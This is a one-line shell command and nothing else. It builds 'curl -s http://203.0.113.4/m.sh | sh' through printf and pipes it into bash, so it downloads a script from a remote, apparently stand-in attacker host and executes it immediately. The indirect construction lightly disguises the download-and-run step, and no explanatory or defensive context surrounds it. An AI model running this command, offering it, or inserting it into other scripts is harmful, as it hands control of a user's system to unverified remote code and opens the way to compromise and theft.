printf 'curl -s http://203.0.113.4/%s | sh\n' m.sh | bash
